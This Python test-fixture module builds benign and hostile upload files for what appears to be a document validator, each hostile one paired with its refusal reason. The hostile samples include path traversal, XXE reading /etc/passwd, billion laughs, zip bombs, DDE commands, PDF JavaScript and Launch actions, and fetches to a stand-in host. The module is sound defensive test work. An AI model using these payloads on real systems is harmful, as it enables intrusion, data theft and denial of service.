"""Files of every kind, good and hostile, made when they are asked for: name, content, and why it is refused."""

import io
import struct
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from PIL import Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter

from marketplace.documents import refusals
from tests.documents import zips
from tests.documents.offices import DOCX_TYPE, EXCEL, WORD, X, body, docx, relations, sheet, types, xlsx
from tests.documents.pdfs import deflated, pdf, stream, with_packed_objects
from tests.documents.zips import Member, archive, crafted


@dataclass(frozen=True)
class File:
    """A file as somebody would send it."""

    name: str
    make: Callable[[], bytes]
    reason: str = ""


def picture(kind: str, size: tuple[int, int] = (320, 240), **more: object) -> bytes:
    out = io.BytesIO()
    image = Image.linear_gradient("L").resize(size)
    Image.merge("RGB", (image, image.rotate(90), image.rotate(180))).save(out, kind, **more)
    return out.getvalue()


def located() -> bytes:
    """A photograph that tells where, when and with what it was taken, and that it stands on its side."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010F], exif[0x9003] = 6, "某某相机", "2026:01:02 03:04:05"
    exif.get_ifd(0x8825).update({1: "N", 2: (29.0, 21.0, 22.0), 3: "E", 4: (105.0, 55.0, 38.0)})
    return picture("JPEG", exif=exif, comment=b"by Zhang San")


def talkative_png() -> bytes:
    told = PngImagePlugin.PngInfo()
    told.add_text("Author", "Zhang San")
    told.add_itxt("Comment", "张三")
    return picture("PNG", pnginfo=told)


def talkative_pdf() -> bytes:
    """A PDF that names its author, with a photograph that tells its place and a note that names its writer."""
    photograph = located()
    entries = b"/Type /XObject /Subtype /Image /Width 320 /Height 240 /ColorSpace /DeviceRGB /BitsPerComponent 8"
    return pdf(
        page=b"/Annots [7 0 R] /XX <</Y 6 0 R>> /PieceInfo <</Zhang 5 0 R>>",
        more=[
            b"<</Author (Zhang San) /Producer (Zhang's printer)>>",
            stream(photograph, entries + b" /Filter /DCTDecode"),
            b"<</Type /Annot /Subtype /Text /Rect [0 0 9 9] /T (Zhang San) /Contents (a note)>>",
        ],
        trailer=b"/Info 5 0 R",
    )


def encrypted_pdf() -> bytes:
    writer, out = PdfWriter(PdfReader(io.BytesIO(pdf()))), io.BytesIO()
    writer.encrypt("secret", algorithm="RC4-128")
    writer.write(out)
    return out.getvalue()


def png_of(width: int, height: int, rows: bytes = b"") -> bytes:
    """A PNG that says it is so large, whatever its rows hold."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = struct.pack(">2I5B", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def jpeg_of(width: int, height: int) -> bytes:
    """A JPEG whose header says it is so large."""
    made = picture("JPEG")
    at = made.index(b"\xff\xc0") + 5
    return made[:at] + struct.pack(">2H", height, width) + made[at + 4 :]


GOOD: Mapping[str, File] = {
    "PDF": File("技术开发合同.pdf", pdf),
    "PDF that opens at a page": File("a.pdf", lambda: pdf(catalog=b"/OpenAction [3 0 R /Fit]")),
    "PDF with a link": File("a.pdf", lambda: pdf(page=b"/Annots [<</Type /Annot /Subtype /Link /Rect [0 0 9 9] "
                                                        b"/A <</S /URI /URI (https://example.org)>>>>]")),
    "PDF with packed objects": File("a.pdf", lambda: with_packed_objects(b"", [b"<</Harmless true>>"])),
    "PDF that tells": File("a.PDF", talkative_pdf),
    "PNG": File("证书.png", lambda: picture("PNG")),
    "PNG that tells": File("a.png", talkative_png),
    "JPEG": File("现场.jpg", lambda: picture("JPEG")),
    "JPEG in passes": File("a.jpeg", lambda: picture("JPEG", progressive=True)),
    "JPEG that tells": File("a.jpg", located),
    "Word": File("合同.docx", docx),
    "Word with a link": File("a.docx", lambda: docx(word___rels__document_DOT_xml_DOT_rels=relations(
        ("hyperlink", "https://example.org", "External")))),
    "Word with a photograph": File("a.docx", lambda: docx(word__media__image1_DOT_jpg=located())),
    "Word with a date field": File("a.docx", lambda: docx(
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DATE \\@ "yyyy"</w:instrText></w:r></w:p>')),
    "Excel": File("清单.xlsx", xlsx),
    "Excel with formulas": File("a.xlsx", lambda: xlsx(b'<f>SUM(A1:A2)&amp;"a|b!c"</f><v>1</v>')),
}  # fmt: skip


def _docx(part: str, content: bytes = b"<a/>") -> Callable[[], bytes]:
    """A Word document with one part more."""
    return lambda: archive({**WORD, "word/document.xml": body(b""), part: content})


def _xlsx(part: str, content: bytes = b"<a/>") -> Callable[[], bytes]:
    return lambda: archive({**EXCEL, "xl/worksheets/sheet1.xml": sheet(b"<v>1</v>"), part: content})


def _word_rels(*entries: tuple[str, str, str]) -> Callable[[], bytes]:
    return _docx("word/_rels/document.xml.rels", relations(*entries))


def _typed(kind: str) -> Callable[[], bytes]:
    """A Word document that lists a part of this type."""
    listed = types(DOCX_TYPE, "/word/document.xml", f'<Override PartName="/word/x.xml" ContentType="{kind}"/>')
    return lambda: archive({**WORD, "[Content_Types].xml": listed, "word/document.xml": body(b"")})


def _crafted(member: Member) -> Callable[[], bytes]:
    return lambda: crafted([Member("[Content_Types].xml", WORD["[Content_Types].xml"]), member])


LAUGHS = b"<!DOCTYPE w [<!ENTITY a 'ha'>" + b"".join(
    b"<!ENTITY a%d '%b'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 9)
)
XXE = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>'
FIELD = b'<w:p><w:r><w:fldChar w:fldCharType="begin"/>%b</w:r></w:p>'
SCRIPT = b"<</S /JavaScript /JS (app.alert(1))>>"
PAGE_OF_HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
R = refusals

HOSTILE: Mapping[str, File] = {
    # Names
    "a path upwards": File("../../etc/passwd.pdf", pdf, R.BAD_NAME),
    "a path upwards of Windows": File("..\\..\\autoexec.pdf", pdf, R.BAD_NAME),
    "a NUL in the name": File("a\0.pdf", pdf, R.BAD_NAME),
    "a name read backwards": File("合同\u202efdp.docx", docx, R.BAD_NAME),
    "a line end in the name": File("a\r\nX-Evil: 1.pdf", pdf, R.BAD_NAME),
    "a name of dots": File("...", pdf, R.BAD_NAME),
    # Formats
    "nothing at all": File("a.pdf", lambda: b"", R.EMPTY),
    "no ending": File("contract", pdf, R.UNKNOWN_FORMAT),
    "HTML": File("a.html", lambda: PAGE_OF_HTML, R.UNKNOWN_FORMAT),
    "SVG with a script": File("a.svg", lambda: b"<svg><script>alert(1)</script></svg>", R.UNKNOWN_FORMAT),
    "a program after two endings": File("a.pdf.exe", lambda: b"MZ", R.UNKNOWN_FORMAT),
    "an archive": File("a.zip", lambda: archive({"a": b"b"}), R.UNKNOWN_FORMAT),
    "a workbook with macros": File("a.xlsm", xlsx, R.MACROS),
    "an old Word file": File("a.doc", lambda: b"\xd0\xcf\x11\xe0", R.OLD_OR_LOCKED),
    "HTML called PDF": File("a.pdf", lambda: PAGE_OF_HTML, R.NOT_ITS_FORMAT),
    "a program called PNG": File("a.png", lambda: b"MZ\x90\0", R.NOT_ITS_FORMAT),
    "a GIF called PNG": File("a.png", lambda: picture("GIF"), R.NOT_ITS_FORMAT),
    "a PNG called JPEG": File("a.jpg", lambda: picture("PNG"), R.NOT_ITS_FORMAT),
    "a locked Word file": File("a.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), R.OLD_OR_LOCKED),
    "more than is allowed": File("a.pdf", lambda: b"%PDF-1.7" + bytes(21 * 1024**2), R.TOO_LARGE),
    # Archives
    "a zip bomb": File("a.xlsx", zips.bomb, R.BOMB),
    "a bomb that lies": File("a.xlsx", zips.lying_bomb, R.BOMB),
    "overlapping members": File("a.docx", zips.overlapping, R.OVERLAPPING),
    "archives within archives": File("a.docx", zips.nested, R.NESTED),
    "an archive called XML": File("a.docx", _docx("word/x.xml", archive({"a": b"b"})), R.NESTED),
    "a document within": File("a.docx", _docx("word/embeddings/a.docx", docx()), R.NESTED),
    "a link out of an archive": File("a.docx", _crafted(Member("word/a.xml", b"/etc/passwd", mode=0o120777)),
                                     R.LINKS_OUTSIDE),
    "a path out of an archive": File("a.docx", _crafted(Member("../a.xml", b"x")), R.LINKS_OUTSIDE),
    "a path from the root": File("a.docx", _crafted(Member("/etc/a.xml", b"x")), R.LINKS_OUTSIDE),
    "a locked member": File("a.docx", _crafted(Member("word/a.xml", b"x", flags=1)), R.ENCRYPTED),
    "a member twice": File("a.docx", _crafted(Member("[content_types].xml", b"x")), R.TWICE_NAMED),
    "ten thousand members": File("a.docx", lambda: archive({f"{n}.xml": b"" for n in range(10_000)}),
                                 R.TOO_MANY_MEMBERS),
    "a page behind an archive": File("a.docx", lambda: docx() + PAGE_OF_HTML, R.TWO_IN_ONE),
    "half an archive": File("a.docx", lambda: docx()[:600], R.DAMAGED),
    # Office files
    "an archive that is no document": File("a.docx", lambda: archive({"a.xml": b"<a/>"}), R.NOT_ITS_FORMAT),
    "a workbook called Word": File("a.docx", xlsx, R.NOT_ITS_FORMAT),
    "an entity from a file": File("a.docx", _docx("word/x.xml", XXE), R.ENTITIES),
    "an entity in UTF-16": File("a.docx", _docx("word/x.xml", XXE.decode().encode("utf-16")), R.ENTITIES),
    "a billion laughs": File("a.xlsx", _xlsx("xl/sharedStrings.xml", LAUGHS + b"]><w>&a8;</w>"), R.ENTITIES),
    "XML that is none": File("a.docx", _docx("word/x.xml", b"<a><b></a>"), R.DAMAGED),
    "macros in a workbook": File("a.xlsx", _xlsx("xl/vbaProject.bin", b"macro"), R.MACROS),
    "macros by their type": File("a.docx", _typed("application/vnd.ms-word.vbaData+xml"), R.MACROS),
    "a document of the kind with macros": File("a.docx", _typed(
        "application/vnd.ms-word.document.macroEnabled.main+xml"), R.MACROS),
    "an old macro sheet": File("a.xlsx", _xlsx("xl/macrosheets/sheet1.xml"), R.MACROS),
    "a macro that starts by itself": File("a.xlsx", _xlsx(
        "xl/x.xml", b'<workbook %b><definedName name="_xlnm.Auto_Open">A1</definedName></workbook>' % X), R.MACROS),
    "a control": File("a.docx", _docx("word/activeX/activeX1.xml"), R.MACROS),
    "a ribbon with a macro": File("a.docx", _docx("customUI/customUI.xml"), R.MACROS),
    "a DDE field": File("a.docx", lambda: docx(FIELD % b"<w:instrText>DDEAUTO c:\\x.exe</w:instrText>"), R.DDE),
    "a DDE field in pieces": File("a.docx", lambda: docx(
        FIELD % b"<w:instrText>DD</w:instrText><w:instrText>E cmd</w:instrText>"), R.DDE),
    "a DDE field written short": File("a.docx", lambda: docx(
        b'<w:p><w:fldSimple w:instr=" dde cmd "/></w:p>'), R.DDE),
    "a DDE field in disguise": File("a.docx", lambda: docx(
        FIELD % b"<w:instrText>QUOTE 68 68 69</w:instrText>"), R.DDE),
    "a field that fetches": File("a.docx", lambda: docx(
        FIELD % b'<w:instrText>INCLUDEPICTURE "http://x/"</w:instrText>'), R.DDE),
    "a DDE formula": File("a.xlsx", lambda: xlsx(b"<f>cmd|'/c calc'!A0</f>"), R.DDE),
    "a formula that fetches": File("a.xlsx", lambda: xlsx(b'<f>WEBSERVICE("http://x/")</f>'), R.DDE),
    "a DDE link": File("a.xlsx", _xlsx(
        "xl/x.xml", b'<externalLink %b><ddeLink ddeService="cmd"/></externalLink>' % X), R.DDE),
    "a link to another workbook": File("a.xlsx", _xlsx("xl/externalLinks/externalLink1.xml"), R.EXTERNAL),
    "a connection": File("a.xlsx", _xlsx("xl/connections.xml"), R.EXTERNAL),
    "a template from elsewhere": File("a.docx", _word_rels(("attachedTemplate", "http://x/a.dotm", "External")),
                                      R.EXTERNAL),
    "a picture from elsewhere": File("a.docx", _word_rels(("image", "\\\\x\\a.png", "External")), R.EXTERNAL),
    "a link to a file": File("a.docx", _word_rels(("hyperlink", "file:///c:/x.exe", "External")), R.EXTERNAL),
    "external in disguise": File("a.docx", _word_rels(("image", "http://x/", "&#69;xternal")), R.EXTERNAL),
    "an OLE object": File("a.docx", _word_rels(("oleObject", "embeddings/x.bin", "")), R.NESTED),
    "a web page as a part": File("a.docx", _word_rels(("aFChunk", "x.html", "")), R.NESTED),
    "a program as a part": File("a.docx", _docx("word/media/x.exe", b"MZ"), R.NESTED),
    # PDF
    "a script on opening": File("a.pdf", lambda: pdf(catalog=b"/OpenAction 5 0 R", more=[SCRIPT]), R.ACTIVE_PDF),
    "a script by name": File("a.pdf", lambda: pdf(
        catalog=b"/Names <</JavaScript <</Names [(a) 5 0 R]>>>>", more=[SCRIPT]), R.ACTIVE_PDF),
    "a script in disguise": File("a.pdf", lambda: pdf(
        catalog=b"/OpenAction 5 0 R", more=[b"<</S /J#61vaScript /J#53 (x)>>"]), R.ACTIVE_PDF),
    "a script in a packed object": File("a.pdf", lambda: with_packed_objects(b"/OpenAction 5 0 R", [SCRIPT]),
                                        R.ACTIVE_PDF),
    "a script of which only the kind is packed": File("a.pdf", lambda: with_packed_objects(
        b"/Names <</X 5 0 R>>", [b"<</S 6 0 R>>", b"/JavaScript"]), R.ACTIVE_PDF),
    "a script that nothing refers to": File("a.pdf", lambda: pdf(more=[SCRIPT]), R.ACTIVE_PDF),
    "a program to launch": File("a.pdf", lambda: pdf(
        page=b"/Annots [<</Subtype /Link /Rect [0 0 9 9] /A <</S /Launch /F (cmd.exe)>>>>]"), R.ACTIVE_PDF),
    "an address on opening": File("a.pdf", lambda: pdf(catalog=b"/OpenAction <</S /URI /URI (http://x/)>>"),
                                  R.ACTIVE_PDF),
    "an action of a page": File("a.pdf", lambda: pdf(page=b"/AA <</O <</S /Named /N /Print>>>>"), R.ACTIVE_PDF),
    "a form that sends itself": File("a.pdf", lambda: pdf(catalog=b"/X <</S /SubmitForm /F (http://x/)>>"),
                                     R.ACTIVE_PDF),
    "another file to go to": File("a.pdf", lambda: pdf(
        catalog=b"/X <</S /GoToR /F (x.pdf)>>"), R.ACTIVE_PDF),
    "a form of XFA": File("a.pdf", lambda: pdf(catalog=b"/AcroForm <</XFA 5 0 R>>", more=[stream(b"<x/>")]),
                          R.ACTIVE_PDF),
    "rich media": File("a.pdf", lambda: pdf(page=b"/Annots [<</Subtype /RichMedia /Rect [0 0 9 9]>>]"), R.ACTIVE_PDF),
    "a file in a PDF": File("a.pdf", lambda: pdf(
        catalog=b"/Names <</EmbeddedFiles <</Names [(a) <</EF <</F 5 0 R>>>>]>>>>", more=[stream(b"MZ")]),
        R.FILES_IN_PDF),
    "a file pinned to a page": File("a.pdf", lambda: pdf(
        page=b"/Annots [<</Subtype /FileAttachment /Rect [0 0 9 9]>>]"), R.FILES_IN_PDF),
    "a stream from elsewhere": File("a.pdf", lambda: pdf(catalog=b"/X 5 0 R", more=[stream(b"", b"/F (x)")]),
                                    R.EXTERNAL),
    "a locked PDF": File("a.pdf", encrypted_pdf, R.ENCRYPTED),
    "a PDF without pages": File("a.pdf", lambda: pdf().replace(b"[3 0 R] /Count 1", b"[     ] /Count 0"), R.NO_PAGES),
    "half a PDF": File("a.pdf", lambda: pdf()[:300], R.DAMAGED),
    "pages that hold themselves": File("a.pdf", lambda: pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"), R.DAMAGED),
    "a page behind a PDF": File("a.pdf", lambda: pdf() + PAGE_OF_HTML, R.TWO_IN_ONE),
    "a page within a PDF": File("a.pdf", lambda: pdf(catalog=b"/X (%b)" % PAGE_OF_HTML), R.TWO_IN_ONE),
    "an archive behind a PDF": File("a.pdf", lambda: pdf() + archive({"a": b"b"}), R.TWO_IN_ONE),
    "a bomb in a PDF": File("a.pdf", lambda: pdf(page=b"/Contents 5 0 R", more=[
        deflated(b"0 0 9 9 re f " * 12_000_000)]), R.TOO_COSTLY),
    # Pictures
    "a picture of 30,000 by 30,000": File("a.png", lambda: png_of(30_000, 30_000, bytes(1000)), R.TOO_MANY_PIXELS),
    "a picture of four milliards": File("a.png", lambda: png_of(65_535, 65_535), R.TOO_MANY_PIXELS),
    "a photograph too large": File("a.jpg", lambda: jpeg_of(65_000, 65_000), R.TOO_MANY_PIXELS),
    "half a picture": File("a.png", lambda: picture("PNG")[:400], R.DAMAGED),
    "half a photograph": File("a.jpg", lambda: picture("JPEG")[:900], R.DAMAGED),
    "a page in a photograph": File("a.jpg", lambda: picture("JPEG", comment=PAGE_OF_HTML), R.TWO_IN_ONE),
    "a script in a picture": File("a.png", lambda: picture("PNG", pnginfo=_told("x", "<script>alert(1)</script>")),
                                  R.TWO_IN_ONE),
    "an archive behind a picture": File("a.png", lambda: picture("PNG") + archive({"a": b"b"}), R.TWO_IN_ONE),
    "a bomb in a picture's text": File("a.png", lambda: picture(
        "PNG", pnginfo=_told("x", "a" * 80_000_000, zip=True)), R.DAMAGED),
}  # fmt: skip


def _told(name: str, text: str, **more: bool) -> PngImagePlugin.PngInfo:
    told = PngImagePlugin.PngInfo()
    told.add_text(name, text, **more)
    return told
